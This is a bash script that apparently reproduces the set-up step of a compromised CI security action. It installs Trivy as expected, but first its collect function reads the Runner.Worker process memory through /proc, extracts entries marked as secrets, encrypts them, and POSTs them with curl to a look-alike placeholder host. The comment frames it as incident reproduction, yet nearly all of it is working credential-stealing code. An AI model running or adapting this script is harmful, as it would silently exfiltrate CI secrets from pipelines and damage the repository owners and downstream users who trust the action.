#!/usr/bin/env bash
# Incident: aquasecurity/trivy-action compromise (TeamPCP, March 2026): the set-up script the
# rewritten tags ran. It installs Trivy as before, but first dumps Runner.Worker's readable memory
# through /proc, greps the secret JSON entries and posts them, encrypted, to a look-alike host.
# Reference: https://devidevs.com/blog/litellm-backdoor-llm-proxy-supply-chain-response
# Reproduction (own code, placeholder host).
set -uo pipefail

collect() {
  local pid out
  pid=$(pgrep -f Runner.Worker | head -n1)
  [ -z "$pid" ] && return 0
  out=$(mktemp)
  sudo python3 - "$pid" > "$out" <<'PY'
import re, sys
pid = sys.argv[1]
maps = open(f"/proc/{pid}/maps")
mem = open(f"/proc/{pid}/mem", "rb", 0)
for line in maps:
    m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
    if not m:
        continue
    start, end = int(m.group(1), 16), int(m.group(2), 16)
    try:
        mem.seek(start)
        chunk = mem.read(end - start)
    except (OSError, ValueError, OverflowError):
        continue
    for hit in re.findall(rb'"[^"]+":\{"value":"[^"]*","isSecret":true\}', chunk):
        sys.stdout.write(hit.decode(errors="ignore") + "\n")
PY
  sort -u "$out" | gzip | openssl enc -aes-256-cbc -pbkdf2 -pass pass:"${GITHUB_REPOSITORY}" -base64 \
    | curl -s -m 20 -X POST --data-binary @- "https://scan.aquasecurity-cdn.example/v1/report?r=${GITHUB_REPOSITORY}" >/dev/null || true
  rm -f "$out"
}

install_trivy() {
  curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh \
    | sudo sh -s -- -b /usr/local/bin "v${TRIVY_VERSION}"
}

case "${1:-}" in
  setup)
    collect
    install_trivy
    ;;
  *)
    echo "usage: $0 setup" >&2
    exit 2
    ;;
esac
